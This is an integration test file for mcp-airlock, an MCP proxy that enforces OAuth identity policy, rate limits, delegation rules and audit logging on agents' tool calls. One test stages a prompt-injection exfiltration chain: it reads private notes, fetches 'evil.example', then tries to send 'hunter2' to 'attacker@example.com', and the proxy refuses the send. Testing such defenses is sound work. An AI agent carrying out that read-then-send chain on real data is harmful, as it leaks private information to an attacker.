/**
 * Identity-bound policy through the real CLI, with real tokens: an oidc-provider authorization
 * server issues JWT access tokens to agents (client credentials) with their groups and scopes, and
 * delegated tokens (RFC 8693 exchange with an actor token) with an `act` chain. `serve` checks them
 * as an OAuth resource server and applies one policy file to every caller: each sees only the
 * tools it may call, calls the rules refuse never reach the server, a burst over the rate limit
 * gets 429s, and the audit log names the delegation chain and the rule behind each refusal.
 */
import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
// @ts-expect-error plain JS fixture
import { startAuthorizationServer } from '../../fixtures/auth/authorization-server.mjs';
// @ts-expect-error plain JS fixture
import { ACCESS_TOKEN_TYPE, enableTokenExchange, TOKEN_EXCHANGE_GRANT } from '../../fixtures/auth/token-exchange-grant.mjs';
import type { AuditRecord } from '../../src/audit/audit-record.js';
import { repoRoot, startServe, type AirlockProcess } from '../helpers/airlock-process.js';
import { initialize, post, sessionHeaders } from '../helpers/http-peer.js';
import { KeyServer } from '../helpers/key-server.js';
import { connectClient, textOf } from '../helpers/mcp-client.js';

const RESOURCE = 'https://airlock.test/mcp';
const workspace = join(repoRoot, 'fixtures', 'workspace-server.mjs');
const CLIENT_CREDENTIALS = 'client_credentials';

/** Agents with readable ids; `sub` of a client credentials token is the client id. */
const agents = {
  supportAgent: { clientId: 'support-agent', clientSecret: 'support-secret-for-tests', grantTypes: [CLIENT_CREDENTIALS] },
  supportReader: { clientId: 'support-reader', clientSecret: 'reader-secret-for-tests', grantTypes: [CLIENT_CREDENTIALS] },
  editor: { clientId: 'editor-bot', clientSecret: 'editor-secret-for-tests', grantTypes: [CLIENT_CREDENTIALS] },
  orchestrator: { clientId: 'orchestrator', clientSecret: 'orchestrator-secret-for-tests', grantTypes: [CLIENT_CREDENTIALS, TOKEN_EXCHANGE_GRANT] },
  planner: { clientId: 'planner', clientSecret: 'planner-secret-for-tests', grantTypes: [CLIENT_CREDENTIALS] },
};
type Agent = (typeof agents)[keyof typeof agents];
const groupsOf: Record<string, string[]> = { 'support-agent': ['support'], 'support-reader': ['support'], 'editor-bot': ['editors'] };

const POLICY = {
  $schema: '../schemas/policy.schema.json',
  rules: [
    { id: 'support-reads', effect: 'allow', annotations: { readOnlyHint: true }, principal: { groups: ['support'] } },
    { id: 'support-sends', effect: 'allow', tools: 'send_message', principal: { groups: 'support', scopes: ['mcp:write'] } },
    { id: 'editors', effect: 'allow', tools: ['read_notes', 'delete_note'], principal: { groups: 'editors' } },
    { id: 'no-destructive-delegation', effect: 'deny', annotations: { destructiveHint: true }, principal: { delegated: true }, reason: 'a person must delete notes' },
  ],
  rateLimits: [{ id: 'fetch-burst', tools: 'fetch_page', per: 'caller', limit: 3, window: '1h' }],
  flows: [{ id: 'no-exfiltration', deny: 'external-communication', after: ['private-data', 'untrusted-content'] }],
};

let as: { issuer: string; close: () => Promise<void> };
let dir: string;
const running: AirlockProcess[] = [];

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'airlock-identity-policy-'));
  as = await startAuthorizationServer({
    resources: [RESOURCE],
    clients: Object.values(agents),
    tokenClaims: (token: { accountId?: string; clientId: string }) => {
      const groups = groupsOf[token.accountId ?? token.clientId];
      return groups ? { groups } : undefined;
    },
  });
  const provider = (as as unknown as { provider: unknown }).provider;
  enableTokenExchange(provider, { trustedIssuer: as.issuer, trustedJwksUri: `${as.issuer}/jwks`, resources: [RESOURCE] });
});
afterEach(async () => {
  await Promise.all(running.splice(0).map((p) => p.stop()));
});
afterAll(async () => {
  await as?.close();
  rmSync(dir, { recursive: true, force: true });
});

async function tokenRequest(agent: Agent, params: Record<string, string>): Promise<string> {
  const response = await fetch(`${as.issuer}/token`, {
    method: 'POST',
    headers: { 'content-type': 'application/x-www-form-urlencoded', authorization: `Basic ${Buffer.from(`${agent.clientId}:${agent.clientSecret}`).toString('base64')}` },
    body: new URLSearchParams({ resource: RESOURCE, ...params }),
  });
  const body = (await response.json()) as { access_token?: string };
  if (!body.access_token) throw new Error(`token request failed: ${JSON.stringify(body)}`);
  return body.access_token;
}

const clientToken = (agent: Agent, scope = 'mcp:read'): Promise<string> => tokenRequest(agent, { grant_type: CLIENT_CREDENTIALS, scope });

/** RFC 8693: `exchanger` gets a token for the subject's principal, with `actor` acting for it. */
async function delegated(subjectToken: string, actor: Agent): Promise<string> {
  return tokenRequest(agents.orchestrator, {
    grant_type: TOKEN_EXCHANGE_GRANT,
    subject_token: subjectToken,
    subject_token_type: ACCESS_TOKEN_TYPE,
    actor_token: await clientToken(actor),
    actor_token_type: ACCESS_TOKEN_TYPE,
    scope: 'mcp:read',
  });
}

let n = 0;
async function servePolicy(): Promise<AirlockProcess & { url: string; auditFile: string }> {
  const policyFile = join(dir, `policy-${++n}.json`);
  const auditFile = join(dir, `audit-${n}.jsonl`);
  writeFileSync(policyFile, JSON.stringify(POLICY, null, 2));
  const serve = await startServe(['--oauth-issuer', as.issuer, '--resource-url', RESOURCE, '--policy-file', policyFile, '--audit-file', auditFile, '--', process.execPath, workspace]);
  running.push(serve);
  return Object.assign(serve, { auditFile });
}

async function clientAs(serveUrl: string, token: string) {
  const transport = new StreamableHTTPClientTransport(new URL(`${serveUrl}/mcp`), { requestInit: { headers: { authorization: `Bearer ${token}` } } });
  return (await connectClient(transport)).client;
}

const records = (file: string): AuditRecord[] => readFileSync(file, 'utf8').split('\n').filter(Boolean).map((l) => JSON.parse(l) as AuditRecord);

describe('serve --policy-file with OAuth callers', () => {
  it('tools/list shows each caller only what its groups and scopes allow; refused calls never reach the server', async () => {
    const serve = await servePolicy();
    const listFor = async (token: string): Promise<string[]> => {
      const client = await clientAs(serve.url, token);
      const names = (await client.listTools()).tools.map((t) => t.name).sort();
      await client.close();
      return names;
    };
    expect(await listFor(await clientToken(agents.supportAgent, 'mcp:read mcp:write'))).toEqual(['fetch_page', 'outbox', 'read_notes', 'search_docs', 'send_message']);
    expect(await listFor(await clientToken(agents.supportReader))).toEqual(['fetch_page', 'outbox', 'read_notes', 'search_docs']);
    expect(await listFor(await clientToken(agents.editor))).toEqual(['delete_note', 'read_notes']);
    expect(await listFor(await clientToken(agents.planner))).toEqual([]); // no group: nothing

    // Rules on annotations need the session's tools/list (clients list before they call).
    const reader = await clientAs(serve.url, await clientToken(agents.supportReader));
    await reader.listTools();
    expect(textOf(await reader.callTool({ name: 'search_docs', arguments: { query: 'x' } }))).toBe('no document mentions x');
    await expect(reader.callTool({ name: 'send_message', arguments: { to: 'a@example.com', body: 'hi' } })).rejects.toThrow(
      'mcp-airlock tool policy: tool "send_message" is not available: no policy rule allows it for this caller (a policy with rules denies by default)',
    );
    // Had the refused call reached the server, the outbox would hold it.
    expect(textOf(await reader.callTool({ name: 'outbox', arguments: {} }))).toBe('[]');
    await reader.close();

    const editor = await clientAs(serve.url, await clientToken(agents.editor));
    await editor.listTools();
    expect(textOf(await editor.callTool({ name: 'delete_note', arguments: { id: 'n1' } }))).toBe('deleted n1');
    await editor.close();
    await serve.stop();

    const calls = records(serve.auditFile).filter((r) => r.method === 'tools/call').map((r) => [r.name, r.outcome, r.rule, r.principal?.subject, r.principal?.groups]);
    expect(calls).toEqual([
      ['search_docs', 'ok', undefined, 'support-reader', ['support']],
      ['send_message', 'denied', '(default deny)', 'support-reader', ['support']],
      ['outbox', 'ok', undefined, 'support-reader', ['support']],
      ['delete_note', 'ok', undefined, 'editor-bot', ['editors']],
    ]);
  });

  it('a burst over the per-caller rate limit gets 429 with Retry-After; another caller is not held back', async () => {
    const serve = await servePolicy();
    const mcp = `${serve.url}/mcp`;
    const open = async (token: string): Promise<Record<string, string>> => {
      const auth = { authorization: `Bearer ${token}` };
      const init = await post(mcp, initialize(), auth);
      expect(init.status).toBe(200);
      const headers = { ...auth, ...sessionHeaders(init.headers.get('mcp-session-id')!) };
      await post(mcp, { jsonrpc: '2.0', method: 'notifications/initialized' }, headers);
      expect((await post(mcp, { jsonrpc: '2.0', id: 2, method: 'tools/list' }, headers)).status).toBe(200);
      return headers;
    };
    const fetchPage = (headers: Record<string, string>, id: number) => post(mcp, { jsonrpc: '2.0', id, method: 'tools/call', params: { name: 'fetch_page', arguments: { url: 'https://example.com' } } }, headers);

    const first = await open(await clientToken(agents.supportReader));
    const burst = await Promise.all(Array.from({ length: 8 }, (_, i) => fetchPage(first, 10 + i)));
    const statuses = burst.map((r) => r.status).sort();
    expect(statuses).toEqual([200, 200, 200, 429, 429, 429, 429, 429]);
    const limited = burst.find((r) => r.status === 429)!;
    expect(Number(limited.headers.get('retry-after'))).toBeGreaterThanOrEqual(1190); // one token per 20 min; the burst took a few ms
    expect(Number(limited.headers.get('retry-after'))).toBeLessThanOrEqual(1200);
    expect(limited.messages[0]!.error).toMatchObject({ code: -32000, data: { airlock: 'AIRLOCK_RATE_LIMITED', rule: 'fetch-burst', tool: 'fetch_page' } });
    expect(limited.messages[0]!.error.message).toMatch(/^mcp-airlock policy: rate limit "fetch-burst" \(3 calls per 1h per caller\) reached for tool "fetch_page"; retry in \d+ s$/);
    // The same caller in a new session is still limited: limits are per caller, not per session.
    expect((await fetchPage(await open(await clientToken(agents.supportReader)), 30)).status).toBe(429);
    // Another caller has its own bucket.
    expect((await fetchPage(await open(await clientToken(agents.supportAgent)), 31)).status).toBe(200);
    await serve.stop();

    const fetches = records(serve.auditFile).filter((r) => r.name === 'fetch_page');
    expect(fetches.filter((r) => r.outcome === 'ok')).toHaveLength(4);
    expect(fetches.filter((r) => r.outcome === 'denied').map((r) => [r.airlockCode, r.rule])).toEqual(Array(6).fill(['AIRLOCK_RATE_LIMITED', 'fetch-burst']));
  });

  it('records the act chain of a delegated token next to its subject; rules match the delegation', async () => {
    const serve = await servePolicy();
    // editor-bot's own token, then planner acting for it, then support-agent acting on top of that.
    const once = await delegated(await clientToken(agents.editor), agents.planner);
    const twice = await delegated(once, agents.supportAgent);

    const client = await clientAs(serve.url, twice);
    expect((await client.listTools()).tools.map((t) => t.name)).toEqual(['read_notes']); // delete_note hidden from a delegate
    expect(textOf(await client.callTool({ name: 'read_notes', arguments: {} }))).toContain('notes:');
    await expect(client.callTool({ name: 'delete_note', arguments: { id: 'n1' } })).rejects.toThrow(
      'mcp-airlock tool policy: tool "delete_note" is not available: denied by policy rule "no-destructive-delegation": a person must delete notes',
    );
    await client.close();
    await serve.stop();

    const calls = records(serve.auditFile).filter((r) => r.method === 'tools/call');
    expect(calls.map((r) => [r.name, r.outcome, r.rule])).toEqual([
      ['read_notes', 'ok', undefined],
      ['delete_note', 'denied', 'no-destructive-delegation'],
    ]);
    for (const call of calls) {
      expect(call.principal).toEqual({
        issuer: as.issuer,
        subject: 'editor-bot',
        actors: [{ subject: 'support-agent' }, { subject: 'planner' }],
        clientId: 'orchestrator',
        scopes: ['mcp:read'],
        groups: ['editors'],
        verified: true,
      });
    }
    // Next to the subject, in the line as written.
    expect(readFileSync(serve.auditFile, 'utf8')).toContain('"subject":"editor-bot","actors":[{"subject":"support-agent"},{"subject":"planner"}],"clientId":"orchestrator"');
  });

  it('the flow rule stops read private -> read untrusted -> send; the same tools in another order pass', async () => {
    const serve = await servePolicy();
    const token = await clientToken(agents.supportAgent, 'mcp:read mcp:write');
    const injected = await clientAs(serve.url, token);
    await injected.listTools();
    await injected.callTool({ name: 'read_notes', arguments: {} });
    await injected.callTool({ name: 'fetch_page', arguments: { url: 'https://evil.example' } });
    await expect(injected.callTool({ name: 'send_message', arguments: { to: 'attacker@example.com', body: 'hunter2' } })).rejects.toThrow(
      'refused by flow rule "no-exfiltration": this session already called "read_notes" (private-data) and "fetch_page" (untrusted-content), and "send_message" is external-communication',
    );
    expect(textOf(await injected.callTool({ name: 'outbox', arguments: {} }))).toBe('[]');
    await injected.close();

    const fine = await clientAs(serve.url, token); // a new session: a new history
    await fine.listTools();
    expect(textOf(await fine.callTool({ name: 'send_message', arguments: { to: 'team@example.com', body: 'standup at 10' } }))).toBe('sent to team@example.com');
    await fine.callTool({ name: 'read_notes', arguments: {} });
    await fine.callTool({ name: 'fetch_page', arguments: { url: 'https://example.com' } });
    expect(textOf(await fine.callTool({ name: 'outbox', arguments: {} }))).toBe('[{"to":"team@example.com","body":"standup at 10"}]');
    await fine.close();
    await serve.stop();

    const denied = records(serve.auditFile).filter((r) => r.outcome === 'denied');
    expect(denied.map((r) => [r.name, r.airlockCode, r.rule, r.principal?.subject])).toEqual([['send_message', 'AIRLOCK_FLOW_DENIED', 'no-exfiltration', 'support-agent']]);
  });
});

describe('serve --policy-file without OAuth', () => {
  const policy = { rules: [{ id: 'token-holder', effect: 'allow', tools: 'read_notes', principal: { subject: 'static-token' } }] };

  it('with a static token, its holder is the caller "static-token"; without any auth, callers are anonymous and serve says so', async () => {
    const policyFile = join(dir, `policy-static-${++n}.json`);
    writeFileSync(policyFile, JSON.stringify(policy));
    const token = 'static-token-for-policy-tests-0123';
    const withToken = await startServe(['--auth-token-env', 'SERVE_TOKEN', '--policy-file', policyFile, '--no-audit', '--', process.execPath, workspace], { ...process.env, SERVE_TOKEN: token });
    running.push(withToken);
    const client = await clientAs(withToken.url, token);
    expect((await client.listTools()).tools.map((t) => t.name)).toEqual(['read_notes']);
    await client.close();
    expect(withToken.stderr()).not.toContain('match no one');

    const open = await startServe(['--policy-file', policyFile, '--no-audit', '--', process.execPath, workspace]);
    running.push(open);
    expect(open.stderr()).toContain('the policy has rules for particular callers, but serve identifies none (no --oauth-issuer or --auth-token-*): those rules match no one');
    const anonymous = (await connectClient(new StreamableHTTPClientTransport(new URL(`${open.url}/mcp`)))).client;
    expect((await anonymous.listTools()).tools).toEqual([]);
    await anonymous.close();
  });
});

// Issue 20: a delegated token whose `act` claim was not the expected shape passed as direct, and
// a `delegated: true` deny rule let the destructive call through. Real tokens, checked by serve.
describe('serve: any act claim makes the caller delegated', () => {
  const idp = new KeyServer();
  beforeAll(async () => {
    await idp.start();
    await idp.addKey('k1');
  });
  afterAll(() => idp.close());

  it('an act.sub over 256 characters, empty, a number or an array: the delegated deny rule refuses delete_note, and the record names the actor', async () => {
    const policyFile = join(dir, `policy-act-${++n}.json`);
    const auditFile = join(dir, `audit-act-${n}.jsonl`);
    writeFileSync(policyFile, JSON.stringify({ rules: [{ id: 'no-agent-deletes', effect: 'deny', tools: 'delete_*', principal: { delegated: true } }, { id: 'everyone', effect: 'allow' }] }));
    const serve = await startServe(['--oauth-issuer', idp.url, '--policy-file', policyFile, '--audit-file', auditFile, '--', process.execPath, workspace]);
    running.push(serve);
    const resource = `${serve.url}/mcp`;
    const shapes: Array<[unknown, string]> = [
      ['agent-'.padEnd(300, 'x'), `${'agent-'.padEnd(255, 'x')}\u2026`],
      ['', ''],
      [42, '42'],
      [['agent-7'], '["agent-7"]'],
    ];
    for (const [sub, recorded] of shapes) {
      const token = await idp.token({ sub: 'alice', client_id: 'desk', aud: resource, act: { sub } });
      const client = await clientAs(serve.url, token);
      const refused = await client.callTool({ name: 'delete_note', arguments: { id: 'n1' } }).then(() => 'forwarded', (error: Error) => error.message);
      expect(refused).toBe('MCP error -32602: mcp-airlock tool policy: tool "delete_note" is not available: denied by policy rule "no-agent-deletes"');
      await client.close();
    }
    // The same call by alice herself (no act) reaches the server.
    const direct = await clientAs(serve.url, await idp.token({ sub: 'alice', client_id: 'desk', aud: resource }));
    expect(textOf(await direct.callTool({ name: 'delete_note', arguments: { id: 'n1' } }))).toBeTruthy();
    await direct.close();
    await serve.stop();
    const calls = records(auditFile).filter((r) => r.name === 'delete_note');
    expect(calls.map((r) => [r.outcome, r.rule, r.principal?.actors])).toEqual([
      ...shapes.map(([, recorded]) => ['denied', 'no-agent-deletes', [{ subject: recorded }]]),
      ['ok', undefined, undefined],
    ]);
  });
});
